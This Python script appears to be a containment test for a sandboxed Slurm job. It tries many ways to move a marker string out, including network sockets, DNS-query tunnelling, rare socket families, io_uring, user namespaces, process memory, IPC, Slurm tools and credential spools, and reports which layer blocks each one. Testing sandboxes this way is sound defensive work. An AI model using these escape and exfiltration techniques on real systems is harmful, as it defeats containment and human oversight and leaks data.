#!/usr/bin/env python3
"""Tries to carry a mark out of an enclave, each way with its own mechanism; says what happened.

    attempts.py --mark TEXT --outside ADDRESS [--outside6 ADDRESS] [--node HOST] [--slurm HOST] [--abstract NAME]

Prints one JSON object per attempt:
    {"name": "tcp", "how": "connect and send to outside:9001", "result": "stopped", "stopped_by": "EPERM: ..."}
result: "out"      the system call that carries the mark succeeded; listener.py, or a look at "left", tells whether it arrived
        "stopped"  it failed; stopped_by names the error and the layer that gives it
        "unreached" it failed because nobody was there (refused, no route, no such host): nothing is proved
"left" (files only) is the path that someone outside the fence must not find. Python's standard library only.
"""
import argparse
import ctypes
import errno
import json
import os
import pwd
import shutil
import socket
import struct
import subprocess
import sys

parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
parser.add_argument("--mark", required=True, help="letters and digits; looked for outside")
parser.add_argument("--outside", required=True, help="IPv4 address on which listener.py listens")
parser.add_argument("--outside6", default="", help="its IPv6 address")
parser.add_argument("--node", default="", help="a node that is not in this job, with a listener.py too")
parser.add_argument("--slurm", default="ctld", help="the host of slurmctld")
parser.add_argument("--abstract", default="aloft-listener", help="listener.py's abstract socket on this node")
parser.add_argument("--port", type=int, default=9001)
options = parser.parse_args()
mark = options.mark.encode()
libc = ctypes.CDLL(None, use_errno=True)
attempts = []


class Stopped(Exception):
    """An attempt that failed in a way that is not a system call's error."""


def attempt(name, how, layer):
    """`layer` says what in the fence gives the error, for the reader; the error itself is what was seen."""
    def keep(function):
        attempts.append((name, how, layer, function))
        return function
    return keep


def run():
    for name, how, layer, function in attempts:
        line = {"name": name, "how": how}
        try:
            left = function()
            line["result"] = "out"
            if left:
                line["left"] = left
        except OSError as error:
            nobody = isinstance(error, socket.gaierror) or error.errno in (
                errno.ECONNREFUSED, errno.EHOSTUNREACH, errno.ENETUNREACH)
            line["result"] = "unreached" if nobody else "stopped"
            code = errno.errorcode.get(error.errno, "timeout" if isinstance(error, TimeoutError) else str(error))
            line["stopped_by"] = f"{code}: nobody there" if nobody else f"{code}: {layer}"
        except Stopped as error:
            line["result"] = "stopped"
            line["stopped_by"] = f"{error}: {layer}"
        print(json.dumps(line), flush=True)


def call(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


def program(*command):
    if not shutil.which(command[0]):
        raise Stopped("no such program")
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=15)
    except subprocess.TimeoutExpired:
        raise Stopped("no answer in 15 s")
    if done.returncode:
        text = (done.stderr.strip() or done.stdout.strip()).splitlines()
        raise Stopped(text[-1][:160] if text else f"exit {done.returncode}")


def stream(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(address)
        s.sendall(mark)


def datagram(family, address, data=mark):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(data, address)


def question():
    name = b"".join(bytes([len(part)]) + part for part in (mark[:60], b"example", b"net")) + b"\0"
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)


CONNECT = "cgroup BPF, connect and sendmsg"


@attempt("tcp", f"connect to outside:{options.port} and send", CONNECT)
def _(): stream(socket.AF_INET, (options.outside, options.port))


@attempt("tcp-mapped", "the same by an IPv6 socket to ::ffff:outside", CONNECT)
def _(): stream(socket.AF_INET6, ("::ffff:" + options.outside, options.port))


@attempt("tcp-fastopen", "TCP fast open: data in the first packet, without connect", CONNECT)
def _():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 3, 0))
        s.sendto(mark, 0x20000000, (options.outside, options.port))


@attempt("udp", f"one datagram to outside:{options.port}", CONNECT)
def _(): datagram(socket.AF_INET, (options.outside, options.port))


@attempt("dns-direct", "the mark as a host name, asked of outside:53", CONNECT)
def _(): datagram(socket.AF_INET, (options.outside, 53), question())


@attempt("dns-resolver", "the mark as a host name, asked of the system's resolver", "no resolver can be reached")
def _():
    resolver = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
    if not resolver:
        raise Stopped("no resolver")
    datagram(socket.AF_INET, (resolver[0], 53), question())


if options.outside6:
    @attempt("tcp6", "connect by IPv6 and send", CONNECT)
    def _(): stream(socket.AF_INET6, (options.outside6, options.port))

    @attempt("udp6", "one datagram by IPv6", CONNECT)
    def _(): datagram(socket.AF_INET6, (options.outside6, options.port))

if options.node:
    @attempt("other-node", f"connect to a node that is not in the job, port {options.port}", CONNECT)
    def _(): stream(socket.AF_INET, (socket.gethostbyname(options.node), options.port))


@attempt("udp-local-relay", "one datagram to a listener outside the fence on this node, by 127.0.0.1", "cgroup BPF, packets: the receiver is not in this job")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("127.0.0.1", options.port))
        s.send(mark)


@attempt("tcp-local-relay", "connect to a listener outside the fence on this node, by 127.0.0.1", "cgroup BPF, packets: the receiver is not in this job")
def _(): stream(socket.AF_INET, ("127.0.0.1", options.port))


@attempt("slurmctld", "connect to slurmctld, port 6817", CONNECT)
def _(): stream(socket.AF_INET, (socket.gethostbyname(options.slurm), 6817))


@attempt("slurmd", "connect to slurmd of this node, port 6818", CONNECT)
def _(): stream(socket.AF_INET, (socket.gethostbyname(socket.gethostname()), 6818))


@attempt("raw", "a raw socket", "cgroup BPF, no capabilities")
def _(): socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attempt("ping", "an ICMP echo socket", "cgroup BPF, socket: TCP and UDP only")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + mark, (options.outside, 0))


for label, family in (("packet", 17), ("vsock", 40), ("alg", 38), ("tipc", 30), ("rds", 21), ("bluetooth", 31), ("smc", 43), ("kcm", 41)):
    @attempt("family-" + label, f"a socket of family {family} ({label})", "seccomp, list of socket families")
    def _(family=family):
        socket.socket(family, socket.SOCK_RAW if family == 17 else socket.SOCK_STREAM if family == 40 else
                      socket.SOCK_SEQPACKET, 0).close()


@attempt("netlink-audit", "a netlink socket other than route", "seccomp, list of socket families")
def _(): socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9).close()


@attempt("abstract", "an abstract Unix socket of a process outside the fence on this node", "Landlock scope")
def _(): stream(socket.AF_UNIX, "\0" + options.abstract)


@attempt("munge", "ask munge for a credential", "mount namespace: no munge in the step")
def _(): stream(socket.AF_UNIX, "/run/munge/munge.socket.2")


@attempt("sbatch", "submit a job to the open partition that would write the mark", "no munge, no way to slurmctld")
def _(): program("sbatch", "--partition=open", "--output=/dev/null", "--wrap", f"touch /home/{pwd.getpwuid(os.getuid()).pw_name}/{options.mark}-sbatch")


@attempt("srun", "start a step outside this one", "no munge, no way to slurmctld")
def _(): program("srun", "--overlap", "--ntasks=1", "true")


@attempt("sbcast", "copy a file to the home folder on this job's nodes", "no munge, no way to slurmd")
def _():
    with open("mark.txt", "w") as f:
        f.write(options.mark)
    program("sbcast", "--force", "mark.txt", f"/tmp/{options.mark}-sbcast")


def leave(folder):
    path = os.path.join(folder, options.mark)
    with open(path, "w") as f:
        f.write(options.mark)
    return path


HOME = pwd.getpwuid(os.getuid()).pw_dir
for label, folder in (("home", HOME), ("tmp", "/tmp"), ("var-tmp", "/var/tmp"), ("dev-shm", "/dev/shm"), ("run-lock", "/run/lock")):
    @attempt("file-" + label, f"a file in {label.replace('-', '/')}", "mount namespace: no such place, or a private one")
    def _(folder=folder): return leave(folder)


@attempt("sysv-shm", "System V shared memory", "IPC namespace of its own")
def _():
    key = int.from_bytes(mark[:4].ljust(4, b"x"), "little") & 0x7FFFFFFF
    call(29, key, 4096, 0o1666)
    return f"shm:{key:#x}"


@attempt("keyring", "a key in the user's keyring", "seccomp")
def _(): call(248, b"user", mark, mark, len(mark), -4)


@attempt("message-queue", "a POSIX message queue", "IPC namespace of its own, seccomp")
def _(): call(240, b"aloft-attempt", os.O_CREAT | os.O_RDWR, 0o666, None)


@attempt("io-uring", "io_uring, which passes seccomp's socket rules", "seccomp")
def _(): call(425, 1, ctypes.create_string_buffer(256))


@attempt("user-namespace", "a user namespace, to gain capabilities", "seccomp")
def _():
    child = os.fork()
    if child == 0:
        try:
            call(272, 0x10000000 | 0x40000000)
        except OSError as error:
            os._exit(error.errno)
        os._exit(0)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(code, os.strerror(code))


@attempt("wrapper-memory", "the memory of the batch script's wrapper and of srun (same user)", "Landlock domain; no such process in /proc")
def _():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if open(f"/proc/{pid}/comm").read().strip() in ("srun", "aloft-run"):
                open(f"/proc/{pid}/mem", "r+b").close()
                return
        except FileNotFoundError:
            continue
    raise Stopped("not to be seen")


@attempt("signal-outside", "a signal to a process of the same user outside the step", "Landlock scope")
def _():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if open(f"/proc/{pid}/comm").read().strip() in ("srun", "aloft-run"):
                os.kill(int(pid), 0)
                return
        except FileNotFoundError:
            continue
    raise Stopped("not to be seen")


@attempt("slurm-spool", "slurmd's spool: other jobs' scripts and credentials", "mount namespace")
def _():
    if not os.path.isdir("/var/lib/slurm/slurmd"):
        raise Stopped("no such folder")
    if all(name.startswith("pmix.") for name in os.listdir("/var/lib/slurm/slurmd")):
        raise Stopped("nothing but this step's PMIx folder")


@attempt("all-workspaces", "the folder that holds everybody's workspaces", "mount namespace")
def _(): os.listdir("/srv/aloft/workspaces")


run()
sys.stdout.flush()
